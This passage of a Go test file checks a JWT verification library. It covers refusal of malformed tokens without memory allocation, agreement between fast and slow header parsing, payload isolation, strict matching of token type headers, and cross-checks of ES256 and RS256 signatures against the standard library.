		{"8 KiB of line breaks", strings.Repeat("\n", keys.MaxTokenSize-3) + "..A", ruleLongHeader},
	})
}

// What is wrong in form must cost next to nothing, for anyone can send it.
func TestRefusingFormAllocatesNothing(t *testing.T) {
	set, token := testSet(), genuine(keystest.ES256)
	input := token[:strings.LastIndexByte(token, '.')]
	for name, token := range map[string]string{
		"too long": strings.Repeat("a", keys.MaxTokenSize+1), "two segments": input, "a million dots": strings.Repeat(".", 1_000_000),
		"line break": token + "\n", "empty signature": input + ".", "four segments": token + ".AA", "nothing": "",
	} {
		if _, err := set.Verify(token); err == nil {
			t.Fatalf("%s: accepted", name)
		}
		if n := testing.AllocsPerRun(100, func() { _, _ = set.Verify(token) }); n != 0 {
			t.Errorf("%s: %v allocations", name, n)
		}
	}
}

// Set.Parse has a fast path for headers that Signet wrote; it must never say anything else than Parse.
func TestSetParseIsParse(t *testing.T) {
	t.Parallel()
	set := testSet()
	for _, name := range []string{keystest.ES256, keystest.RS256, keystest.ES256Other} {
		for _, typ := range []keys.Type{keys.TypeAccessToken, keys.TypeClientAssertion, keys.TypeJWT} {
			token := must(keystest.Key(name).Sign(typ, []byte(testPayload)))
			fast, slow := must(set.Parse(token)), must(keys.Parse(token))
			want := keys.Header{Algorithm: keystest.Key(name).Algorithm(), KeyID: keystest.Key(name).ID(), Type: string(typ)}
			if fast.Header() != want || slow.Header() != want {
				t.Errorf("%s %s: %+v and %+v, want %+v", name, typ, fast.Header(), slow.Header(), want)
			}
			if fast.InsecurePayload() != testPayload || slow.InsecurePayload() != testPayload {
				t.Errorf("%s %s: payload %q and %q", name, typ, fast.InsecurePayload(), slow.InsecurePayload())
			}
		}
	}
}

// A payload's owner may append to it; that must not reach what else the token holds.
func TestPayloadCannotGrowIntoTheRest(t *testing.T) {
	t.Parallel()
	set := testSet()
	parsed := must(set.Parse(genuine(keystest.ES256)))
	first := must(set.VerifyParsed(parsed))
	_ = append(first.Payload, "xxxxxxxx"...) // little enough to fit where a slice is not cut off
	token, err := set.VerifyParsed(parsed)
	if err != nil || string(token.Payload) != testPayload {
		t.Errorf("got %q, %v", token.Payload, err)
	}
}

func TestTypeIs(t *testing.T) {
	t.Parallel()
	rows := []struct {
		name string
		typ  string
		want bool
	}{
		{"exact", "at+jwt", true},
		{"upper case", "AT+JWT", true},
		{"media type", "application/at+jwt", true},
		{"media type in upper case", "APPLICATION/AT+JWT", true},
		{"empty", "", false},
		{"prefix alone", "application/", false},
		{"prefix twice", "application/application/at+jwt", false},
		{"another tree", "text/at+jwt", false},
		{"JWT", "JWT", false},
		{"id_token", "id_token", false},
		{"dpop", "dpop+jwt", false},
		{"client assertion", "client-authentication+jwt", false},
		{"logout", "logout+jwt", false},
		{"space", " at+jwt", false},
		{"parameter", "at+jwt;v=1", false},
		{"full-width", "at+jwｔ", false},
	}
	for _, row := range rows {
		if got := keys.TypeAccessToken.Is(row.typ); got != row.want {
			t.Errorf("%s: %q is %v", row.name, row.typ, got)
		}
	}
}

// verifyAlone verifies a token with nothing but the standard library, for comparison.
func verifyAlone(public crypto.PublicKey, token string) bool {
	i := strings.LastIndexByte(token, '.')
	signature, err := base64.RawURLEncoding.DecodeString(token[i+1:])
	if err != nil {
		return false
	}
	switch public := public.(type) {
	case *ecdsa.PublicKey:
		r, s := new(big.Int).SetBytes(signature[:len(signature)/2]), new(big.Int).SetBytes(signature[len(signature)/2:])
		return len(signature) == 64 && ecdsa.Verify(public, digestOf(token[:i]), r, s)
	case *rsa.PublicKey:
		return rsa.VerifyPKCS1v15(public, crypto.SHA256, digestOf(token[:i]), signature) == nil
	}
	return false
}

func TestSignedTokensVerifyElsewhere(t *testing.T) {
	t.Parallel()
	for _, name := range []string{keystest.ES256, keystest.RS256} {
		for range 20 { // an r or s with a zero first octet comes once in 128; with luck one is among them
			if token := genuine(name); !verifyAlone(keystest.Raw(name).Public(), token) {
				t.Fatalf("%s: not verified: %s", name, token)
			}
		}
	}
}
